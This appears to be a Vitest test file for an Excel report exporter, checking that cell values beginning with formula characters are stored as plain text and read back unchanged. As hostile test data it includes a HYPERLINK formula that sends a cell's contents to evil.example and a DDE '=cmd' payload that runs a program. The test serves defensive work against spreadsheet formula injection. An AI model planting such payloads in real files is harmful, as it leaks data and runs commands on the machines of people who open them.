import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, expect, it } from 'vitest';
import { readReportWorkbook, writeReportWorkbook } from '../../../electron/services/excel';
import { sampleValues } from '../../helpers/reportFixtures';

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'excel-neutralise-'));
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

const HOSTILE = {
  project_name: '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
  investor: '+86 571 8888',
  issues: '-5 万美元资金缺口',
  owner: '@张三',
  stage: '\t在建',
  enterprise_name: '＝1+1 科技有限公司',
  country: '\r德国',
};

it('exported text that a spreadsheet would run as a formula stays text, and reads back as typed', async () => {
  const values = sampleValues('T2', 2);
  values.lists.ledger![0] = { ...values.lists.ledger![0]!, ...HOSTILE };
  values.header.reportingUnit = '=cmd|"/c calc"!A1';
  const file = path.join(dir, 'hostile.xlsx');
  await writeReportWorkbook(values, file);

  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  const sheet = workbook.worksheets[0]!;
  const row = sheet.getRow(9);
  const cells: ExcelJS.Cell[] = [];
  row.eachCell((cell) => cells.push(cell));
  for (const cell of cells) expect(cell.formula).toBeUndefined();
  expect(row.getCell(2).value).toBe(`'${HOSTILE.project_name}`);
  expect(row.getCell(3).value).toBe(`'${HOSTILE.enterprise_name}`);
  expect(row.getCell(5).value).toBe(`'${HOSTILE.investor}`);
  expect(row.getCell(22).value).toBe(`'${HOSTILE.issues}`);
  expect(sheet.getCell('A6').value).toBe(`填报单位：=cmd|"/c calc"!A1`);

  const read = await readReportWorkbook(file);
  expect(read.values.lists.ledger![0]).toMatchObject({ ...HOSTILE, stage: '在建', country: '德国' });
  expect(read.values.header.reportingUnit).toBe('=cmd|"/c calc"!A1');
});
